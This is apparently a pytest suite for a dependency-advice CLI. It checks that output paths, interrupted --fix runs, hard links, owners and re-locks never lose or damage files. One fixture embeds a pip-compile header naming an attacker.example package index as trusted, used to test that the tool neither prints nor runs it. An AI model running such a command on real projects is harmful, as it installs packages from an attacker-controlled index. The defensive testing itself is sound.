"""Files are never lost or damaged: output paths that are devices, FIFOs, standard output or a
file read; ``--fix`` interrupted, racing another program, on files with another owner or hard
links; and a ``--fix`` that cannot make the change it advised.

Every test works on real files in ``tmp_path`` (device nodes are made there with ``mknod``: the
real ``/dev/null`` is never at risk). What could hang (a FIFO, a signal) runs in a subprocess
with a timeout.
"""

from __future__ import annotations

import datetime as dt
import errno
import os
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from packaging.specifiers import SpecifierSet

from advisor.frontends.cli import main
from advisor.model.advice import AdviceRequest
from advisor.model.project import Dependency, Project, SourceLocation
from advisor.pipeline import Settings, read_and_advise
from advisor.write import plan_fix
from tests._helpers import ARGS, FILES, errors, one_error, run_cli, unchanged

ROOT = Path(__file__).resolve().parents[1]
REQ = b"flask==3.1.0\nddtrace==2.3.0\n"
REPORT_START = "aap-advise: upgrade ddtrace 2.3.0 -> 4.6.0"
needs_root = pytest.mark.skipif(
    sys.platform == "win32" or os.geteuid() != 0, reason="giving a file to another owner needs root"
)
posix_only = pytest.mark.skipif(sys.platform == "win32", reason="FIFOs, devices and signals")


def cli(cwd: Path, *args: str, **kwargs: Any) -> subprocess.CompletedProcess[str]:
    """aap-advise in its own process (what could block must not block the tests)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    kwargs.setdefault("capture_output", "stdout" not in kwargs)
    return run_cli(*args, *ARGS, cwd=cwd, env=env, timeout=120, **kwargs)


@pytest.fixture
def req(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "requirements.txt"
    path.write_bytes(REQ)
    return path


def device(path: Path, major: int, minor: int) -> Path:
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(major, minor))
    except (PermissionError, AttributeError):
        pytest.skip("mknod is not permitted here")
    return path


def on_call(
    number: int, action: Callable[..., None], real: Callable[..., Any]
) -> Callable[..., Any]:
    """``real``, with ``action`` run first on call ``number`` (1-based)."""
    calls = 0

    def wrapped(*args: Any, **kwargs: Any) -> Any:
        nonlocal calls
        calls += 1
        if calls == number:
            action(*args)
        return real(*args, **kwargs)

    return wrapped


# --- -o / --write-constraints: devices, FIFOs, standard output, the files read ------------------


@posix_only
@pytest.mark.parametrize("option", ["-o", "--write-constraints"])
def test_a_character_device_stays_a_device(req: Path, tmp_path: Path, option: str) -> None:
    """``-o /dev/null`` as root replaced /dev/null with a regular file."""
    null = device(tmp_path / "null", 1, 3)
    assert main([str(req), option, str(null), *ARGS, "--format", "json"]) == 1
    st = os.stat(null)
    assert stat.S_ISCHR(st.st_mode) and st.st_rdev == os.makedev(1, 3)


@posix_only
def test_a_device_that_refuses_the_write_stays_a_device(
    req: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A device is written in place, so its own error is the one reported (``/dev/full``)."""
    full = device(tmp_path / "full", 1, 7)
    assert main([str(req), "-o", str(full), *ARGS]) == 2
    assert one_error(capsys) == f"{full}: cannot write: No space left on device"
    assert stat.S_ISCHR(os.stat(full).st_mode)


@posix_only
def test_a_fifo_nobody_reads_is_refused_not_waited_on(req: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "report.fifo"
    os.mkfifo(fifo)
    proc = cli(tmp_path, "requirements.txt", "-o", str(fifo))
    assert proc.returncode == 2, proc.stderr
    assert errors(proc.stderr) == [
        f"{fifo}: is a FIFO (named pipe) that nothing reads; it was left as it is"
    ]
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)


@posix_only
@pytest.mark.parametrize(
    ("option", "expected"), [("-o", REPORT_START), ("--write-constraints", "ddtrace==4.6.0")]
)
def test_a_fifo_with_a_reader_gets_the_output(
    req: Path, tmp_path: Path, option: str, expected: str
) -> None:
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader, before the writer comes
    try:
        proc = cli(tmp_path, "requirements.txt", option, str(fifo))
        assert proc.returncode == 1, proc.stderr
        received = b""
        while chunk := os.read(reader, 65536):
            received += chunk
    finally:
        os.close(reader)
    assert expected in received.decode()
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)


@posix_only
def test_dev_stdout_into_a_pipe(req: Path, tmp_path: Path) -> None:
    proc = cli(tmp_path, "requirements.txt", "-o", "/dev/stdout")
    assert proc.returncode == 1, proc.stderr
    assert proc.stdout.startswith(REPORT_START)


@posix_only
def test_dev_stdout_into_a_file_writes_through_it(req: Path, tmp_path: Path) -> None:
    """Standard output redirected to a file: the report goes into that file, which is not
    replaced (the shell's redirection keeps pointing at it)."""
    log = tmp_path / "log.txt"
    with log.open("wb") as out:
        before = os.fstat(out.fileno()).st_ino
        proc = cli(
            tmp_path, "requirements.txt", "-o", "/dev/stdout", stdout=out, stderr=subprocess.PIPE
        )
    assert proc.returncode == 1, proc.stderr
    assert log.read_text().startswith(REPORT_START)
    assert log.stat().st_ino == before


def _link(kind: str, target: Path, at: Path) -> Path:
    if kind == "symlink":
        at.symlink_to(target.name)
    else:
        os.link(target, at)
    return at


@pytest.mark.parametrize(
    ("option", "name", "link", "fix"),
    [
        ("-o", "requirements.txt", None, False),
        ("-o", "./sub/../requirements.txt", None, False),
        ("-o", "report.txt", "symlink", False),
        ("-o", "report.txt", "hard link", False),
        ("--write-constraints", "base.txt", None, False),  # read through -r only
        ("--write-constraints", "requirements.txt", None, True),
    ],
    ids=["same-path", "dotdot", "symlink", "hard-link", "include", "fix"],
)
def test_an_output_that_is_a_file_read_is_refused(
    req: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    option: str,
    name: str,
    link: str | None,
    fix: bool,
) -> None:
    (tmp_path / "sub").mkdir()
    req.write_bytes(b"-r base.txt\nflask==3.1.0\nddtrace==2.3.0\n")
    base = tmp_path / "base.txt"
    base.write_bytes(b"requests==2.31.0\n")
    if link:
        _link(link, req, tmp_path / name)
    before = {p: p.read_bytes() for p in (req, base)}
    argv = ["requirements.txt", option, name, *ARGS, *(["--fix"] if fix else [])]
    assert main(argv) == 2
    line = one_error(capsys)
    assert line.startswith(f"{name}: is ") and "one of the files read" in line, line
    assert {p: p.read_bytes() for p in (req, base)} == before
    if link == "symlink":
        assert (tmp_path / name).is_symlink()
    if link == "hard link":
        assert req.stat().st_nlink == 2


@pytest.mark.parametrize("option", ["-o", "--write-constraints"])
@pytest.mark.parametrize("name", ["snap.json", "./link.json"], ids=["same-path", "symlink"])
def test_an_output_that_is_the_snapshot_is_refused(
    req: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], option: str, name: str
) -> None:
    """The reviewer's /tmp/rv/h: --snapshot snap.json -o snap.json replaced the snapshot with
    the report; the snapshot is a file read like the others."""
    snapshot = tmp_path / "snap.json"
    shipped = (ROOT / "advisor" / "knowledge" / "data" / "releases.json").read_bytes()
    snapshot.write_bytes(shipped)
    (tmp_path / "link.json").symlink_to(snapshot)
    assert main(["requirements.txt", "--snapshot", "snap.json", option, name, *ARGS]) == 2
    line = one_error(capsys)
    assert line.startswith(f"{name}: is ") and "one of the files read" in line, line
    assert snapshot.read_bytes() == shipped


@pytest.mark.parametrize(
    ("option", "name"),
    [("-o", "vendor/pkg/pyproject.toml"), ("--write-constraints", "./vendor/x/../pkg/setup.cfg")],
)
def test_an_output_that_is_a_local_projects_metadata_is_refused(
    req: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], option: str, name: str
) -> None:
    """``-e ./vendor/pkg``: its metadata is read for the project's name, so it is a file read."""
    pkg = tmp_path / "vendor" / "pkg"
    pkg.mkdir(parents=True)
    (tmp_path / "vendor" / "x").mkdir()
    meta = {
        "pyproject.toml": b'[project]\nname = "vpkg"\nversion = "1"\n',
        "setup.cfg": b"[metadata]\n",
    }
    for file, data in meta.items():
        (pkg / file).write_bytes(data)
    req.write_bytes(b"-e ./vendor/pkg\nddtrace==2.3.0\n")
    assert main(["requirements.txt", option, name, *ARGS]) == 2
    line = one_error(capsys)
    assert line.startswith(f"{name}: is ") and "one of the files read" in line, line
    assert {f: (pkg / f).read_bytes() for f in meta} == meta


@pytest.mark.parametrize(
    "spelling",
    [
        "vpkg @ file:vendor/pkg",
        "vpkg @ file://localhost{root}/vendor/pkg",
        "vpkg @ file:vendor/%70kg",
    ],
)
def test_an_output_that_is_a_local_folders_pyproject_however_spelled_is_refused(
    req: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], spelling: str
) -> None:
    """A local folder's pyproject.toml is read for what it requires, however the reference
    spells the folder (``file:`` without slashes, ``file://localhost``, %-escapes): -o over it
    is refused (those spellings wrote the report over the library's pyproject)."""
    pkg = tmp_path / "vendor" / "pkg"
    pkg.mkdir(parents=True)
    meta = b'[project]\nname = "vpkg"\nversion = "1"\ndependencies = ["six<2"]\n'
    (pkg / "pyproject.toml").write_bytes(meta)
    req.write_text(spelling.format(root=tmp_path) + "\nddtrace==2.3.0\n")
    assert main(["requirements.txt", "-o", "vendor/pkg/pyproject.toml", *ARGS]) == 2
    line = one_error(capsys)
    assert "one of the files read" in line, line
    assert (pkg / "pyproject.toml").read_bytes() == meta


def test_one_file_for_both_outputs_is_refused(
    req: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The report would silently replace the constraints (or the other way round)."""
    assert (
        main(["requirements.txt", "-o", "out.txt", "--write-constraints", "./out.txt", *ARGS]) == 2
    )
    assert (
        one_error(capsys)
        == "./out.txt: -o and --write-constraints name the same file; nothing was written"
    )
    assert not (tmp_path / "out.txt").exists()


# --- --fix: interrupted ------------------------------------------------------------------------


@pytest.fixture
def live_ctrl_c() -> Any:
    """SIGINT raises KeyboardInterrupt here, as in a terminal, even when the tests were started
    with it ignored (a background job of a non-interactive shell); aap-advise keeps a signal
    that is ignored ignored."""
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    yield
    signal.signal(signal.SIGINT, before)


def _keyboard_interrupt(*_: Any) -> None:
    raise KeyboardInterrupt


def _sigint(*_: Any) -> None:
    os.kill(os.getpid(), signal.SIGINT)  # a real Ctrl-C, delivered to this process


@posix_only
@pytest.mark.parametrize(
    ("call", "action"),
    [(2, _keyboard_interrupt), (2, _sigint), (4, _keyboard_interrupt)],
    ids=[
        "keyboard-interrupt-mid-edits",
        "sigint-mid-edits",
        "keyboard-interrupt-writing-constraints",
    ],
)
def test_ctrl_c_during_fix_changes_nothing_and_says_so(
    live_ctrl_c: None,
    project: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    call: int,
    action: Callable[..., None],
) -> None:
    """The second rename is one file in; the fourth is the constraints file after the three edits."""
    constraints = project.parent / f"{project.name}-constraints.txt"
    monkeypatch.setattr(os, "replace", on_call(call, action, os.replace))
    code = main([str(project), "--fix", "--write-constraints", str(constraints), *ARGS])
    err = capsys.readouterr().err
    assert code == 130, err
    assert err.splitlines() == ["aap-advise: --fix interrupted; nothing was changed"]
    unchanged(project)
    assert not constraints.exists()


@posix_only
def test_ctrl_c_during_relock_puts_the_lock_back_too(
    live_ctrl_c: None,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The lock tool rewrites uv.lock, then Ctrl-C arrives (the tool sends it to aap-advise)."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    uv = bin_dir / "uv"
    uv.write_text(
        f"#!{sys.executable}\nimport os, pathlib, signal\n"
        "pathlib.Path('uv.lock').write_text('rewritten by uv\\n')\n"
        "os.kill(os.getppid(), signal.SIGINT)\n"
    )
    uv.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    app = tmp_path / "app"
    app.mkdir()
    pyproject = app / "pyproject.toml"
    pyproject.write_bytes(FILES["pyproject.toml"])
    (app / "uv.lock").write_text("version = 1\n")
    assert main([str(pyproject), "--fix", "--relock", *ARGS]) == 130
    assert (
        capsys.readouterr().err.splitlines()[-1]
        == "aap-advise: --fix interrupted; nothing was changed"
    )
    assert pyproject.read_bytes() == FILES["pyproject.toml"]
    assert (app / "uv.lock").read_text() == "version = 1\n"


DRIVER = r"""
import os, signal, sys, time
from pathlib import Path

# As in a terminal, even when the tests run with these ignored (a background job).
signal.signal(signal.SIGINT, signal.default_int_handler)
signal.signal(signal.SIGTERM, signal.SIG_DFL)
ready, go = Path(sys.argv[1]), Path(sys.argv[2])
real, calls = os.replace, 0


def replace(*args, **kwargs):
    # The second file goes in place only once the test has sent its signal.
    global calls
    calls += 1
    if calls == 2:
        ready.touch()
        deadline = time.monotonic() + 60
        while not go.exists() and time.monotonic() < deadline:
            time.sleep(0.01)
    return real(*args, **kwargs)


os.replace = replace
from advisor.frontends.cli import main

sys.exit(main(sys.argv[3:]))
"""


@posix_only
@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM], ids=["SIGINT", "SIGTERM"])
def test_a_signal_from_outside_mid_fix_changes_nothing(
    project: Path, tmp_path_factory: pytest.TempPathFactory, signum: int
) -> None:
    """A real process, a real signal from another one, one file already in place."""
    flags = tmp_path_factory.mktemp("flags")
    ready, go = flags / "ready", flags / "go"
    proc = subprocess.Popen(
        [sys.executable, "-c", DRIVER, str(ready), str(go), str(project), "--fix", *ARGS],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 120  # bounds a hang; not a timing assertion
        while not ready.exists() and proc.poll() is None and time.monotonic() < deadline:
            time.sleep(0.01)
        assert ready.exists(), proc.communicate(timeout=60)
        proc.send_signal(signum)
        go.touch()
        _, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 128 + signum, err
    assert err.splitlines() == ["aap-advise: --fix interrupted; nothing was changed"]
    unchanged(project)


# --- --fix: owner, mode, hard links, another program -------------------------------------------


@needs_root
def test_fix_keeps_owner_group_and_mode(req: Path, tmp_path: Path) -> None:
    """As root, --fix made every file it edited root's."""
    other = tmp_path / "requirements-dev.txt"
    other.write_bytes(b"ddtrace==2.3.0\n")
    os.chown(req, 1234, 5678)
    os.chmod(req, 0o640)
    os.chown(other, 4321, 8765)
    os.chmod(other, 0o2754)  # set-group-ID survives the new owner
    assert main([str(req), str(other), "--fix", *ARGS]) == 1
    for path, owner, mode in ((req, (1234, 5678), 0o640), (other, (4321, 8765), 0o2754)):
        st = path.stat()
        assert b"ddtrace==4.6.0" in path.read_bytes()
        assert ((st.st_uid, st.st_gid), stat.S_IMODE(st.st_mode)) == (owner, mode), path


def test_fix_keeps_hard_links(req: Path, tmp_path: Path) -> None:
    linked = tmp_path / "vendored-requirements.txt"
    os.link(req, linked)
    inode = req.stat().st_ino
    assert main([str(req), "--fix", *ARGS]) == 1
    assert linked.read_bytes() == req.read_bytes() == b"flask==3.1.0\nddtrace==4.6.0\n"
    assert req.stat().st_ino == inode and req.stat().st_nlink == 2


def test_both_names_of_a_hard_linked_file_are_edited_once(req: Path, tmp_path: Path) -> None:
    os.link(req, tmp_path / "requirements-prod.txt")
    assert main([str(tmp_path), "--fix", *ARGS]) == 1
    assert (tmp_path / "requirements-prod.txt").read_bytes() == b"flask==3.1.0\nddtrace==4.6.0\n"
    assert req.stat().st_nlink == 2


def test_a_failed_write_in_place_is_undone(
    project: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    linked = project.parent / f"{project.name}-linked.txt"
    os.link(project / "requirements-dev.txt", linked)

    def disk_full(*_: Any) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "ftruncate", on_call(1, disk_full, os.ftruncate))
    assert main([str(project), "--fix", *ARGS]) == 2
    assert one_error(capsys).endswith(
        ": cannot write: No space left on device; every file was restored"
    )
    unchanged(project)
    assert linked.read_bytes() == FILES["requirements-dev.txt"]


@pytest.mark.parametrize(
    "edit", [b"ddtrace==2.3.1\n", b"# someone else's edit\n"], ids=["same-size", "other-size"]
)
def test_a_file_another_program_changes_during_the_fix_is_not_overwritten(
    project: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, edit: bytes
) -> None:
    """The first file goes in place; meanwhile an editor saves another one."""
    victim: list[Path] = []

    def someone_else(src: Any, dst: Any) -> None:
        other = next(project / n for n in FILES if (project / n).resolve() != Path(dst).resolve())
        other.write_bytes(edit)
        victim.append(other)

    monkeypatch.setattr(os, "replace", on_call(1, someone_else, os.replace))
    assert main([str(project), "--fix", *ARGS]) == 2
    assert one_error(capsys) == (
        f"{victim[0]}: changed by another program while --fix was writing; it was not overwritten; "
        "every file was restored"
    )
    assert victim[0].read_bytes() == edit
    for name, data in FILES.items():
        if project / name != victim[0]:
            assert (project / name).read_bytes() == data


# --- --fix that cannot make the change it advised ----------------------------------------------


def test_fix_refuses_a_local_wheel_it_cannot_move(
    req: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The check hook fails on this file (upgrade advised); the fix hook passed, writing nothing."""
    wheel = "./wheels/ddtrace-2.3.0-cp311-cp311-manylinux_2_17_x86_64.whl"
    req.write_text(f"flask==3.1.0\n{wheel}\n")
    before = req.read_bytes()
    assert main([str(req), *ARGS]) == 1  # the check
    capsys.readouterr()
    assert main([str(req), "--fix", *ARGS]) == 2
    line = one_error(capsys)
    assert (
        line
        == f"{req}:2: ddtrace is installed from {wheel}, a file or URL: there is no version to move"
    )
    assert req.read_bytes() == before


@pytest.mark.parametrize("untrusted", [False, True], ids=["expanded", "untrusted"])
def test_fix_refuses_a_version_in_an_environment_variable(
    req: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, untrusted: bool
) -> None:
    """``ddtrace==${DDTRACE_VERSION}``: the writer cannot edit the variable, so it says so.

    Expanded (trusted files, the variable set), the readers see 2.3.0; untrusted (the hooks),
    they see no version, or stop at the line: either way --fix must not pass writing nothing.
    """
    if untrusted:
        monkeypatch.delenv("DDTRACE_VERSION", raising=False)
    else:
        monkeypatch.setenv("DDTRACE_VERSION", "2.3.0")
    req.write_text("flask==3.1.0\nddtrace==${DDTRACE_VERSION}\n")
    before = req.read_bytes()
    assert main([str(req), "--fix", *ARGS, *(["--untrusted"] if untrusted else [])]) == 2
    line = one_error(capsys)
    assert line.startswith(f"{req}:2: ") and "${DDTRACE_VERSION}" in line, line
    assert req.read_bytes() == before


@pytest.mark.parametrize(
    "specifier", ["", "==${DDTRACE_VERSION}"], ids=["no-specifier", "as-written"]
)
def test_plan_refuses_a_declaration_it_cannot_find_in_the_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, specifier: str
) -> None:
    """The readers' side of ``${VAR}`` not expanded: ddtrace with no known version, on a line
    the writer cannot edit. The plan refuses it and names the variable."""
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "requirements.txt"
    path.write_text("flask==3.1.0\nddtrace\n")
    request = AdviceRequest(("api-security",), "3.12", today=dt.date(2026, 11, 24))
    project, advice = read_and_advise([str(path)], request, Settings(no_cache=True))
    path.write_text("flask==3.1.0\nddtrace==${DDTRACE_VERSION}\n")
    # No reader makes "==${DDTRACE_VERSION}" (it does not parse): given parsed as empty.
    dep = Dependency(
        "ddtrace",
        "ddtrace",
        specifier,
        None,
        SourceLocation(str(path), 2),
        parsed_specifier=SpecifierSet(),
    )
    project = Project(
        project.manifests, (*[d for d in project.dependencies if d.name != "ddtrace"], dep), None
    )
    plan = plan_fix(project, advice, hashes=None)
    assert [(r.code, r.line) for r in plan.refusals] == [("not-editable", 2)]
    assert "${DDTRACE_VERSION}" in plan.refusals[0].message
    assert (
        plan.refusals[0].hint
        == "set DDTRACE_VERSION to 4.6.0 where it is defined, or write ddtrace==4.6.0"
    )
    assert not plan.patches


@pytest.mark.parametrize("diff", [False, True], ids=["fix", "diff"])
@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("requirements.txt", "flask==3.1.0\n", "ddtrace is not declared in any file given"),
        (
            "setup.py",
            'from setuptools import setup\nsetup(name="x", install_requires=["ddtrace==2.3.0"])\n',
            "setup.py is code and is never edited",
        ),
        (
            "pylock.toml",
            (ROOT / "fixtures" / "formats" / "pylock" / "pylock.toml").read_text(),
            "regenerate it with the tool that wrote it",
        ),
    ],
    ids=["undeclared", "setup-py", "pylock"],
)
def test_fix_that_leaves_the_change_to_you_does_not_pass(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], diff: bool, name: str, text: str, said: str
) -> None:
    """The check exits 1; a fix that changed nothing must not exit 0 (the hook would pass)."""
    path = tmp_path / name
    path.write_text(text)
    assert main([str(path), *ARGS]) == 1
    capsys.readouterr()
    assert main([str(path), "--diff" if diff else "--fix", *ARGS]) == 1
    assert said in capsys.readouterr().err
    assert path.read_text() == text


# --- --fix on a compiled file: what its header may choose ----------------------------------------

HOSTILE_HEADER = """\
#
# This file is autogenerated by pip-compile with Python 3.12
# by the following command:
#
#    pip-compile --extra-index-url=https://attacker.example/simple --trusted-host=attacker.example -o requirements.txt requirements.in
#
ddtrace==2.3.0
    # via -r requirements.in
"""


def test_a_header_index_is_neither_printed_nor_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The reviewer's /tmp/rv/b: --untrusted --fix --diff printed a re-compile against the
    header's index and trusted host. Now the edit is shown, and the header's command is not."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".git").mkdir()
    (tmp_path / "requirements.in").write_text("ddtrace\n")
    req = tmp_path / "requirements.txt"
    req.write_text(HOSTILE_HEADER)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "pip-compile"
    fake.write_text(f"#!{sys.executable}\nimport pathlib\npathlib.Path('{tmp_path}/RAN').touch()\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    assert main(["requirements.txt", "--untrusted", "--diff", *ARGS]) == 1
    out, err = capsys.readouterr()
    assert "+ddtrace==4.6.0" in out
    assert "attacker" not in err, err
    assert "its header's command is neither run nor printed (it names a package index" in err
    assert main(["requirements.txt", "--untrusted", "--fix", "--relock", *ARGS]) == 1
    assert "attacker" not in capsys.readouterr().err
    assert "ddtrace==4.6.0\n" in req.read_text()
    assert not (tmp_path / "RAN").exists()


# --- --fix --relock: the files the tools rewrite -------------------------------------------------

EXPORT = """\
# This file was autogenerated by uv via the following command:
#    uv export --frozen -o requirements.txt
ddtrace==2.3.0
"""


def _limit_memory() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (2**30, 2**30))


def _relock_export(folder: Path, tmp_path: Path) -> tuple[subprocess.CompletedProcess[str], Path]:
    """``--fix --relock`` on a uv export file beside ``folder/uv.lock``, in its own process held
    to 60 s and 1 GiB, with a fake uv that notes each run; the process and that note."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    ran = tmp_path / "uv-ran"
    uv = bin_dir / "uv"
    uv.write_text(
        f"#!{sys.executable}\nimport sys\nopen({str(ran)!r}, 'a').write(' '.join(sys.argv[1:]) + '\\n')\n"
    )
    uv.chmod(0o755)
    env = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
    }
    try:
        done = run_cli(
            "requirements.txt",
            "--fix",
            "--relock",
            *ARGS,
            cwd=folder,
            env=env,
            timeout=60,
            preexec_fn=_limit_memory,
        )
    except subprocess.TimeoutExpired:
        pytest.fail("--fix --relock did not finish within 60 s")
    return done, ran


LEADS_OUT = "is a link leading out of {repo}, where its re-lock runs"


@posix_only
@pytest.mark.parametrize(
    ("kind", "said"),
    [
        ("fifo", "is a named pipe (FIFO), not a regular file"),
        ("dev-zero", LEADS_OUT),
        ("device", "is not a regular file"),
        ("link-out", LEADS_OUT),
        ("too-large", "is 67108865 bytes, over the 64 MiB limit for the files a re-lock rewrites"),
    ],
)
def test_a_lock_relock_rewrites_is_checked_before_anything(
    tmp_path: Path, kind: str, said: str
) -> None:
    """The reviewer's /tmp/rv/m: the uv.lock beside a uv export file is read before the re-lock
    (to put it back on a failure) and no reader checked it: a FIFO hung, /dev/zero filled
    memory, a link out of the repository was read and later written back. Now --fix refuses
    with one line, before anything is written or run."""
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "requirements.txt").write_text(EXPORT)
    lock = repo / "uv.lock"
    outside = tmp_path / "outside.lock"
    outside.write_text("secret = 1\n")
    if kind == "fifo":
        os.mkfifo(lock)
    elif kind == "dev-zero":
        lock.symlink_to("/dev/zero")
    elif kind == "device":
        device(lock, 1, 5)  # /dev/zero's numbers, inside the repository
    elif kind == "link-out":
        lock.symlink_to(outside)
    else:
        with lock.open("wb") as fh:
            fh.truncate(64 * 2**20 + 1)
    done, ran = _relock_export(repo, tmp_path)
    assert done.returncode == 2, done.stderr
    said = said.format(repo=repo)
    assert errors(done.stderr) == [
        f"uv.lock: {said}; --relock would rewrite it, so nothing was written or run"
    ], done.stderr
    assert "Traceback" not in done.stderr
    assert (repo / "requirements.txt").read_text() == EXPORT
    assert not ran.exists()
    assert outside.read_text() == "secret = 1\n"


@posix_only
def test_a_lock_as_large_as_the_readers_take_is_relocked(tmp_path: Path) -> None:
    """Issue 19: the readers take a lock of up to 64 MiB (a 10,000-package uv.lock is 47 MB),
    so --relock backs one up and re-locks it; it refused any over 16 MiB before."""
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "requirements.txt").write_text(EXPORT)
    with (repo / "uv.lock").open("wb") as fh:
        fh.truncate(20 * 2**20)
    done, ran = _relock_export(repo, tmp_path)
    assert done.returncode == 1, done.stderr
    assert ran.read_text() == "lock --upgrade-package ddtrace==4.6.0\n"
    assert "ddtrace==4.6.0\n" in (repo / "requirements.txt").read_text()


@posix_only
def test_a_lock_linked_inside_the_repository_is_relocked(tmp_path: Path) -> None:
    """A link to a regular file inside the folder tree is fine, and so is no uv.lock at all
    (then nothing re-locks it, as before)."""
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "locks").mkdir()
    (repo / "locks" / "uv.lock").write_text("version = 1\n")
    (repo / "uv.lock").symlink_to(Path("locks") / "uv.lock")
    (repo / "requirements.txt").write_text(EXPORT)
    done, ran = _relock_export(repo, tmp_path)
    assert done.returncode == 1, done.stderr
    assert ran.read_text() == "lock --upgrade-package ddtrace==4.6.0\n"
    assert "ddtrace==4.6.0\n" in (repo / "requirements.txt").read_text()
